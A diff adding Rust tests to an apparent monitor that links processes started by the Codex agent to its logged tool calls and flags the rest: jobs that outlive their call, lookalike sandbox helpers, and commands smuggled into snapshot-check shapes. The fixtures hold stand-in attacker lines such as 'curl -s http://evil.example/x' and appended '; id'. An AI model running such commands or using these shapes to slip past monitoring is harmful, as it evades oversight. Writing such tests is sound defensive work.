@@ -528,3 +528,432 @@ fn codex_a_symlinked_rollout_is_not_followed() {
         other => panic!("{other:?}"),
     }
 }
+
+fn with_exe(mut e: Event, path: &str) -> Event {
+    if let Some(p) = &mut e.process {
+        p.exe = Some(path.to_owned());
+    }
+    e
+}
+
+fn unexplained_of(found: &[Found]) -> Vec<(u64, &'static str, Option<String>)> {
+    found
+        .iter()
+        .filter_map(|f| match f {
+            Found::Unexplained(_, _, u) => Some((
+                u.exec_seq,
+                u.reason,
+                u.after_call.as_ref().map(|c| c.id.clone()),
+            )),
+            Found::Call(..) | Found::Unreadable(..) | Found::Unobserved(..) => None,
+        })
+        .collect()
+}
+
+fn entries(list: &[&str]) -> Arc<[Infra]> {
+    list.iter()
+        .map(|e| Infra::parse(e).unwrap().unwrap())
+        .collect::<Vec<_>>()
+        .into()
+}
+
+/// The sha256 of `text`, as an entry's `sha256:HEX` argument.
+fn sha256_hex(text: &str) -> String {
+    use sha2::Digest as _;
+    sha2::Sha256::digest(text.as_bytes())
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+/// Stands for Codex's snapshot script (the shipped entry pins 0.169.0's
+/// real one; the kernel test checks it against the real CLI).
+const SNAPSHOT_SCRIPT: &str = "echo '# Snapshot file'\ndeclare -f\nalias -p\n";
+const SESSION: &str = "01a245cc-b84d-7c23-9304-5a18fc44fc3e";
+
+#[test]
+fn codex_shell_snapshot_is_infrastructure_in_its_exact_shapes_only() {
+    let mut fx = Fixture::new();
+    let config = fx.dir.path().join("codex-home");
+    let check = format!(
+        "set -e; . \"{}/shell_snapshots/{SESSION}.tmp-1796467374161665086\"",
+        config.display()
+    );
+    let lookalike_check = format!("set -e; . \"/tmp/evil/shell_snapshots/{SESSION}.tmp-1\"",);
+    let check_and_more = format!(
+        "set -e; . \"{}/shell_snapshots/{SESSION}.tmp-1\" ; curl \"http://evil.example\"",
+        config.display()
+    );
+    let script_and_more = format!("{SNAPSHOT_SCRIPT}curl http://evil.example/x\n");
+    let evil = "curl -s http://evil.example/x";
+    if let Some(f) = fx.t.runs.get_mut("r") {
+        f.infra = entries(&[
+            &format!("bash -lc sha256:{}", sha256_hex(SNAPSHOT_SCRIPT)),
+            "bash -c @codex-snapshot-check",
+        ]);
+    }
+    let bash = |seq: u64, ms: u64, key: &str, argv: &[&str]| {
+        with_exe(
+            act(seq, Kind::ProcessExec, ms, key, "k-codex", Some(argv)),
+            "/usr/bin/bash",
+        )
+    };
+    let events = [
+        // The snapshot, its pipeline, its check: the agent's.
+        bash(10, 100, "k-snap", &["/bin/bash", "-lc", SNAPSHOT_SCRIPT]),
+        act(11, Kind::ProcessSpawn, 110, "k-sub", "k-snap", None),
+        with_exe(
+            act(
+                12,
+                Kind::ProcessExec,
+                120,
+                "k-sub",
+                "k-snap",
+                Some(&["awk", "1"]),
+            ),
+            "/usr/bin/mawk",
+        ),
+        bash(13, 200, "k-check", &["/bin/bash", "-c", &check]),
+        // A tool call's login shell run by codex itself (no sandbox): its
+        // call's, not the snapshot.
+        bash(20, 1_100, "k-tool", &["/bin/bash", "-lc", evil]),
+        // The same shapes with anything else in them, started by no call.
+        bash(30, 3_000, "k-x1", &["/bin/bash", "-lc", evil]),
+        bash(31, 3_010, "k-x2", &["/bin/bash", "-lc", &script_and_more]),
+        bash(32, 3_020, "k-x3", &["/bin/bash", "-c", &lookalike_check]),
+        bash(33, 3_030, "k-x4", &["/bin/bash", "-c", &check_and_more]),
+        // The snapshot script, but not run by codex: a tool's (no call).
+        with_exe(
+            act(
+                34,
+                Kind::ProcessExec,
+                3_040,
+                "k-x5",
+                "k-x1",
+                Some(&["/bin/bash", "-lc", SNAPSHOT_SCRIPT]),
+            ),
+            "/usr/bin/bash",
+        ),
+    ];
+    for e in &events {
+        fx.t.on_event(e);
+    }
+    fx.append(
+        ROLLOUT,
+        &[
+            call_line(1_000, "call_1", "exec_command", evil),
+            output_line(1_500, "call_1", 0),
+        ],
+    );
+    let mut found = fx.t.tick(at(2_000));
+    found.extend(fx.t.tick(at(9_000)));
+    let calls: Vec<&ToolCall> = found
+        .iter()
+        .filter_map(|f| match f {
+            Found::Call(_, c) => Some(c),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(calls.len(), 1, "{found:?}");
+    assert!(calls[0].processes.iter().any(|l| l.seq == 20), "{found:?}");
+    assert_eq!(
+        unexplained_of(&found),
+        [
+            (30, "no_tool_call", None),
+            (31, "no_tool_call", None),
+            (32, "no_tool_call", None),
+            (33, "no_tool_call", None),
+        ],
+        "{found:?}"
+    );
+}
+
+#[test]
+fn snapshot_check_shape() {
+    let c = Path::new("/h/.codex");
+    let ok = format!("set -e; . \"/h/.codex/shell_snapshots/{SESSION}.tmp-123\"");
+    assert!(codex::is_snapshot_check(&ok, c));
+    assert!(codex::is_snapshot_check(&ok, Path::new("/h/.codex/")));
+    for bad in [
+        format!("set -e; . \"/h/.codex/shell_snapshots/{SESSION}.tmp-\""),
+        format!("set -e; . \"/h/.codex/shell_snapshots/{SESSION}.tmp-1x\""),
+        format!("set -e; . \"/h/.codex/shell_snapshots/{SESSION}.sh\""),
+        format!("set -e; . \"/h/.codex/shell_snapshots/../{SESSION}.tmp-1\""),
+        format!("set -e; . \"/h/.codex/./shell_snapshots/{SESSION}.tmp-1\""),
+        format!("set -e; . \"/h/.codex/shell_snapshots/{SESSION}.tmp-1\"; id"),
+        format!(
+            "set -e; . \"/h/.codex/shell_snapshots/x{}.tmp-1\"",
+            &SESSION[1..]
+        ),
+        format!("set -e; . \"/h/.codexx/shell_snapshots/{SESSION}.tmp-1\""),
+        format!("set -e;  . \"/h/.codex/shell_snapshots/{SESSION}.tmp-1\""),
+    ] {
+        assert!(!codex::is_snapshot_check(&bad, c), "{bad}");
+    }
+}
+
+#[test]
+fn infrastructure_entries_that_cannot_be_read_are_refused() {
+    assert!(Infra::parse("bash -lc sha256:00").is_err());
+    assert!(Infra::parse(&format!("bash -lc sha256:{}", "g".repeat(64))).is_err());
+    assert!(Infra::parse("bash -c @no-such-shape").is_err());
+    assert!(Infra::parse("@codex-snapshot-check").is_err());
+    assert!(Infra::parse("@agent --sandbox-policy-cwd").is_ok());
+    assert!(Infra::parse("@someone-else x").is_err());
+    assert!(Infra::parse(&format!("bash -lc sha256:{}", "0".repeat(64))).is_ok());
+}
+
+/// Codex's sandbox chain (process setup, the helper, bubblewrap and its
+/// probe, the helper inside it) is the agent's; what it runs is not: the
+/// call's shell is linked to the call, a process the chain runs that no
+/// call explains is `tool.unexplained`, and so is a job that outlived its
+/// call. A lookalike helper under the tool's shell is no helper.
+#[test]
+fn codex_sandbox_helpers_are_the_agents_but_not_what_they_run() {
+    let mut fx = Fixture::new();
+    if let Some(f) = fx.t.runs.get_mut("r") {
+        f.helpers = entries(&[
+            "@agent --codex-run-as-*",
+            "@agent --sandbox-policy-cwd",
+            "bwrap",
+            "/usr/bin/true",
+        ]);
+    }
+    const CODEX: &str = "/n/@openai/codex-linux-x64/vendor/x/bin/codex";
+    if let Some(f) = fx.t.runs.get_mut("r") {
+        f.agent_exes = vec![CODEX.to_owned()];
+    }
+    const BWRAP: &str = "/n/@openai/codex-linux-x64/vendor/x/codex-resources/bwrap";
+    let sandbox: &[&str] = &["codex-linux-sandbox", "--sandbox-policy-cwd", "/w", "--"];
+    // One sandbox chain from the codex process, starting at `ms`; returns
+    // its events and the key of the process it runs the command in.
+    let chain = |seq: u64, ms: u64, n: &str| -> Vec<Event> {
+        let k = |s: &str| format!("k-{s}{n}");
+        vec![
+            act(seq, Kind::ProcessSpawn, ms, &k("h"), "k-codex", None),
+            with_exe(
+                act(
+                    seq + 1,
+                    Kind::ProcessExec,
+                    ms + 1,
+                    &k("h"),
+                    "k-codex",
+                    Some(&["/proc/self/exe", "--codex-run-as-process-setup", "37"]),
+                ),
+                CODEX,
+            ),
+            with_exe(
+                act(
+                    seq + 2,
+                    Kind::ProcessExec,
+                    ms + 2,
+                    &k("h"),
+                    "k-codex",
+                    Some(sandbox),
+                ),
+                CODEX,
+            ),
+            act(seq + 3, Kind::ProcessSpawn, ms + 3, &k("p"), &k("h"), None),
+            with_exe(
+                act(
+                    seq + 4,
+                    Kind::ProcessExec,
+                    ms + 4,
+                    &k("p"),
+                    &k("h"),
+                    Some(&["bwrap", "--as-pid-1"]),
+                ),
+                BWRAP,
+            ),
+            act(seq + 5, Kind::ProcessSpawn, ms + 5, &k("t"), &k("p"), None),
+            with_exe(
+                act(
+                    seq + 6,
+                    Kind::ProcessExec,
+                    ms + 6,
+                    &k("t"),
+                    &k("p"),
+                    Some(&["/usr/bin/true"]),
+                ),
+                "/usr/bin/true",
+            ),
+            act(seq + 7, Kind::ProcessSpawn, ms + 7, &k("b"), &k("h"), None),
+            with_exe(
+                act(
+                    seq + 8,
+                    Kind::ProcessExec,
+                    ms + 8,
+                    &k("b"),
+                    &k("h"),
+                    Some(&["bwrap", "--as-pid-1"]),
+                ),
+                BWRAP,
+            ),
+            act(seq + 9, Kind::ProcessSpawn, ms + 9, &k("i"), &k("b"), None),
+            with_exe(
+                act(
+                    seq + 10,
+                    Kind::ProcessExec,
+                    ms + 10,
+                    &k("i"),
+                    &k("b"),
+                    Some(sandbox),
+                ),
+                CODEX,
+            ),
+            act(
+                seq + 11,
+                Kind::ProcessSpawn,
+                ms + 11,
+                &k("s"),
+                &k("i"),
+                None,
+            ),
+        ]
+    };
+    let mut events = chain(10, 1_100, "1");
+    events.extend([
+        // Call 1's shell and its background job, whose exec comes after
+        // the call's result.
+        with_exe(
+            act(
+                30,
+                Kind::ProcessExec,
+                1_120,
+                "k-s1",
+                "k-i1",
+                Some(&["/bin/bash", "-c", "sleep 3 & echo one"]),
+            ),
+            "/usr/bin/bash",
+        ),
+        act(31, Kind::ProcessSpawn, 1_130, "k-job", "k-s1", None),
+        with_exe(
+            act(
+                32,
+                Kind::ProcessExec,
+                4_000,
+                "k-job",
+                "k-s1",
+                Some(&["cat", "/etc/hostname"]),
+            ),
+            "/usr/bin/cat",
+        ),
+        // A bwrap lookalike under the call's shell, after the call: no
+        // helper (the chain ended at the shell).
+        act(33, Kind::ProcessSpawn, 4_100, "k-fake", "k-s1", None),
+        with_exe(
+            act(
+                34,
+                Kind::ProcessExec,
+                4_110,
+                "k-fake",
+                "k-s1",
+                Some(&["bwrap"]),
+            ),
+            "/tmp/bwrap",
+        ),
+        // The call's shell itself re-execs a lookalike after the call
+        // (its parent is a helper, but it left the chain with its first
+        // exec), and that starts a helper lookalike in turn.
+        with_exe(
+            act(
+                35,
+                Kind::ProcessExec,
+                4_200,
+                "k-s1",
+                "k-i1",
+                Some(&["bwrap", "--as-pid-1"]),
+            ),
+            "/tmp/x/bwrap",
+        ),
+        act(36, Kind::ProcessSpawn, 4_210, "k-s1c", "k-s1", None),
+        with_exe(
+            act(37, Kind::ProcessExec, 4_220, "k-s1c", "k-s1", Some(sandbox)),
+            "/tmp/x/codex",
+        ),
+    ]);
+    // A second chain that runs a command no call asked for.
+    events.extend(chain(40, 5_000, "2"));
+    events.push(with_exe(
+        act(
+            60,
+            Kind::ProcessExec,
+            5_020,
+            "k-s2",
+            "k-i2",
+            Some(&["/bin/bash", "-c", "curl -s http://evil.example/x"]),
+        ),
+        "/usr/bin/bash",
+    ));
+    // A helper lookalike started by codex itself (not its binary): no
+    // helper.
+    events.push(act(70, Kind::ProcessSpawn, 6_000, "k-lk", "k-codex", None));
+    events.push(with_exe(
+        act(
+            71,
+            Kind::ProcessExec,
+            6_010,
+            "k-lk",
+            "k-codex",
+            Some(sandbox),
+        ),
+        "/tmp/x/codex",
+    ));
+    for e in &events {
+        fx.t.on_event(e);
+    }
+    fx.append(
+        ROLLOUT,
+        &[
+            call_line(1_000, "call_1", "exec_command", "sleep 3 & echo one"),
+            output_line(1_500, "call_1", 0),
+        ],
+    );
+    let mut found = fx.t.tick(at(2_000));
+    found.extend(fx.t.tick(at(12_000)));
+    let linked: Vec<u64> = found
+        .iter()
+        .filter_map(|f| match f {
+            Found::Call(_, c) => Some(c.processes.iter().map(|l| l.seq)),
+            _ => None,
+        })
+        .flatten()
+        .collect();
+    assert!(linked.contains(&30), "{found:?}");
+    assert_eq!(
+        unexplained_of(&found),
+        [
+            (32, "after_call", Some("call_1".to_owned())),
+            (34, "after_call", Some("call_1".to_owned())),
+            (35, "after_call", Some("call_1".to_owned())),
+            (60, "no_tool_call", None),
+            (71, "no_tool_call", None),
+        ],
+        "{found:?}"
+    );
+    // The hole this closes: the same chain listed as `infrastructure`
+    // (everything under it the agent's) reports none of them (but the
+    // lookalike started by codex itself).
+    let mut before = Fixture::new();
+    if let Some(f) = before.t.runs.get_mut("r") {
+        f.infra = entries(&["@agent --codex-run-as-*", "@agent --sandbox-policy-cwd"]);
+        f.agent_exes = vec![CODEX.to_owned()];
+    }
+    for e in &events {
+        before.t.on_event(e);
+    }
+    before.append(
+        ROLLOUT,
+        &[
+            call_line(1_000, "call_1", "exec_command", "sleep 3 & echo one"),
+            output_line(1_500, "call_1", 0),
+        ],
+    );
+    let mut found = before.t.tick(at(2_000));
+    found.extend(before.t.tick(at(12_000)));
+    assert_eq!(
+        unexplained_of(&found),
+        [(71, "no_tool_call", None)],
+        "{found:?}"
+    );
+}
